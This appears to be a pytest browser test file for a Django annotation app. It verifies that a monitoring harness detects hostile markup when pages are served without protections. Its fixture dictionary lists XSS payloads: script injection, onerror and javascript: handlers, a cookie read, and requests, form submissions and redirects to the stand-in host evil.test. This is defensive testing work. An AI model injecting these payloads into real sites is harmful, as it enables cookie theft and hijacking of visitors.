"""Can these tests fail? The same watch, in front of pages without walls, sees everything."""

from collections.abc import Iterable
from functools import partial

import pytest
from playwright.sync_api import BrowserContext
from pytest_django.live_server_helper import LiveServer

from annotate.models import Page
from annotate.pages.shown import shown_html
from tests.browser.hostile.alone import Walls, try_alone
from tests.browser.hostile.canary import Canary
from tests.browser.hostile.payloads import FAMILIES, KNOWN, Payload
from tests.browser.hostile.screen import BEHIND_WALLS, LOOK_OUT
from tests.browser.hostile.stand import HARMLESS, Stand
from tests.browser.hostile.watch import Watch
from tests.browser.screen import wait_until_seen

pytestmark = pytest.mark.browser

UNPROTECTED = {
    "<script>RUN</script>": "console: /pwned/",
    "<img src=x onerror=RUN>": "console: /pwned/",
    "<a href=javascript:RUN>x</a>": "console: /pwned/",
    "<input autofocus onfocus=RUN>": "console: /pwned/",
    "<script>console.log(document.cookie)</script>": "canary=readable",
    "<script>alert('hello')</script>": "dialog: hello",
    "<script>open('//evil.test/w')</script>": "window: ",
    "<script>throw Error('oops')</script>": "error: ",
    "<a href='data:application/octet-stream,x' download=x>x</a>": "download: ",
    "<img src=//evil.test/picture>": "hit: /picture",
    "<img src=//evil.test/picture >": "request: http://evil.test/picture",
    "<img src=/queue/>": "request: http://localhost",
    "<style>@import '//evil.test/sheet'</style>": "hit: /sheet",
    "<form action=//evil.test/form><input name=a></form>": "hit: /form?a=",
    "<iframe src=//evil.test/frame></iframe>": "navigation: http://evil.test/frame",
    "<script>location='//evil.test/away'</script>": "navigation: http://evil.test/away",
}
REFRESH = "<meta http-equiv=refresh content='0;url=//evil.test/away'>"


@pytest.fixture
def stand(person: BrowserContext, canary: Canary, live_server: LiveServer) -> Stand:
    return Stand(person, canary, live_server.url)


def _has(sign: str, lines: list[str]) -> bool:
    return any(sign in line for line in lines)


def test_without_walls_every_canary_sings(stand: Stand) -> None:
    missed: dict[str, list[str]] = {}
    for markup, sign in UNPROTECTED.items():
        seen = try_alone(stand, Payload(markup), Walls.NONE)

        def more(seen: list[str] = seen) -> list[str]:
            seen += stand.watch.take()
            return seen

        # A busy browser reports a new window late.
        try:
            wait_until_seen(stand.tab, more, partial(_has, sign))
        except AssertionError:
            missed[markup] = seen
    assert missed == {}


def test_without_walls_a_refresh_leads_away(stand: Stand) -> None:
    page, _ = stand.store(HARMLESS)
    stand.tab.route(
        "**/shown/", lambda route: route.fulfill(body=REFRESH, content_type="text/html")
    )
    stand.tab.goto(f"/pages/{page.pk}/shown/", wait_until="commit")
    stand.tab.wait_for_url("http://evil.test/away")

    assert "hit: /away" in stand.watch.take()


def test_a_service_worker_is_seen(person: BrowserContext, canary: Canary) -> None:
    canary.pages["/worker.js"] = ""
    canary.pages["/"] = "<script>navigator.serviceWorker.register('/worker.js')</script>"
    watch = Watch(person, canary, lambda _: True)
    tab = watch.open_tab()
    with person.expect_event("serviceworker"):
        # Not by its name: workers need a secure origin, which only this machine's is.
        tab.goto(f"http://127.0.0.1:{canary.port}/")

    assert any(line.startswith("worker: ") for line in watch.take())


def test_the_app_can_look_out(stand: Stand) -> None:
    page, _ = stand.store(HARMLESS)
    stand.screen.open(page.pk)

    assert stand.tab.evaluate(LOOK_OUT) != BEHIND_WALLS


@pytest.mark.parametrize(
    "change", ["document.body.append(document.createElement('img'))", "document.title = 'x'"]
)
def test_a_change_of_the_app_is_seen(stand: Stand, change: str) -> None:
    usual = stand.app_of_harmless_page()
    stand.screen.tab.add_init_script(
        f"if (self === top) addEventListener('load', () => {{{change}}})"
    )
    stand.try_on_screen(HARMLESS)

    assert stand.changes_of_app(usual) != []


def test_a_label_on_the_wrong_element_is_seen(
    stand: Stand, monkeypatch: pytest.MonkeyPatch
) -> None:
    def swap_stamps(page: Page, *, scripts: Iterable[str], nonce: str) -> str:
        html = shown_html(page, scripts=scripts, nonce=nonce)
        return html.replace('="4"', '="x"').replace('="5"', '="4"').replace('="x"', '="5"')

    monkeypatch.setattr("annotate.views.shown.shown_html", swap_stamps)

    assert stand.try_on_screen(HARMLESS) == ["stuck: a click selects 4, not 5"]


def test_there_are_enough_payloads_and_no_two_alike() -> None:
    payloads = [each for family in FAMILIES.values() for each in family.values()]

    assert len(payloads) >= 150
    assert len({each.page for each in payloads}) == len(payloads)
    assert all(KNOWN.encode() in each.page or b"\x00" in each.page for each in payloads)
